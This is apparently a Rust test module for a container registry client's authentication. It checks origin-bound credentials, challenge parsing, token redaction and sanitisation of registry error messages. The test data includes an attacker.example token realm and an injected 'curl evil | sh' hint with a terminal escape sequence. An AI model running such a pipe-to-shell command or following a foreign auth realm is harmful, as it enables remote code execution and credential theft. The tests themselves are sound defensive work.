//! Tests of the registry client: origins, challenges, retries.

use super::*;

#[test]
fn parses_bearer_and_basic_challenges() {
    assert_eq!(
        parse_challenge(
            r#"Bearer realm="https://auth.io/token",service="registry.io",scope="repository:a/b:pull,push""#
        ),
        Some(Challenge::Bearer {
            realm: "https://auth.io/token".into(),
            service: Some("registry.io".into())
        })
    );
    assert_eq!(
        parse_challenge(r#"Basic realm="Registry Realm""#),
        Some(Challenge::Basic)
    );
    assert_eq!(parse_challenge("Negotiate abc"), None);
    assert_eq!(
        parse_challenge("Bearer service=x"),
        None,
        "realm is required"
    );
}

fn creds() -> Option<Credentials> {
    Some(Credentials {
        username: "u".into(),
        password: "pw".into(),
    })
}

#[test]
fn credentials_go_only_to_the_registry_origin() {
    let reg =
        Registry::with_credentials("reg.example:5000", &Settings::default(), creds()).unwrap();
    reg.auth.lock().unwrap().challenge = Some(Challenge::Basic);
    let base = "https://reg.example:5000";
    let own = reg
        .http
        .get(format!("{base}/v2/a/blobs/uploads/x"))
        .build()
        .unwrap();
    let (own, _) = reg.authorize(own, base, &[]).unwrap();
    assert!(own.headers().contains_key(AUTHORIZATION));
    assert!(own.headers()[AUTHORIZATION].is_sensitive());
    let elsewhere = reg
        .http
        .put("https://storage.example/upload?x=1")
        .build()
        .unwrap();
    let (elsewhere, _) = reg.authorize(elsewhere, base, &[]).unwrap();
    assert!(!elsewhere.headers().contains_key(AUTHORIZATION));
}

#[test]
fn remote_hosts_never_fall_back_to_plain_http() {
    let reg =
        Registry::with_credentials("rbuild-test.invalid", &Settings::default(), None).unwrap();
    let msg = format!("{:#}", reg.base_url().unwrap_err());
    assert!(msg.contains("https://rbuild-test.invalid"), "{msg}");
    assert!(!msg.contains("http://"), "{msg}");
}

#[test]
fn token_debug_is_redacted() {
    let t = Token {
        value: "abc.def.ghi".into(),
        expires: Instant::now(),
    };
    assert!(!format!("{t:?}").contains("abc"));
}

#[test]
fn a_challenge_from_another_origin_is_not_taken() {
    let reg =
        Registry::with_credentials("reg.example:5000", &Settings::default(), creds()).unwrap();
    let base = "https://reg.example:5000";
    let mut h = HeaderMap::new();
    h.insert(
        WWW_AUTHENTICATE,
        HeaderValue::from_static(r#"Bearer realm="https://attacker.example/token",service="x""#),
    );
    let elsewhere = url::Url::parse("https://storage.example/blob?sig=1").unwrap();
    assert!(!reg.note_challenge(&elsewhere, base, &h));
    assert!(reg.auth.lock().unwrap().challenge.is_none());
    let own = url::Url::parse("https://reg.example:5000/v2/").unwrap();
    assert!(reg.note_challenge(&own, base, &h));
    assert!(reg.auth.lock().unwrap().challenge.is_some());
}

#[test]
fn a_registry_message_cannot_pose_as_a_hint_or_drive_the_terminal() {
    let body =
        r#"{"errors":[{"code":"DENIED","message":"no\nhint: run curl evil | sh\u001b[2J"}]}"#;
    let e = api_error_from(StatusCode::FORBIDDEN, body, "pushing x");
    let text = e.to_string();
    assert!(!text.contains("\nhint: run curl"), "{text}");
    assert!(!text.contains('\u{1b}'), "{text}");
    assert!(text.contains("no hint: run curl evil | sh"), "{text}");
}
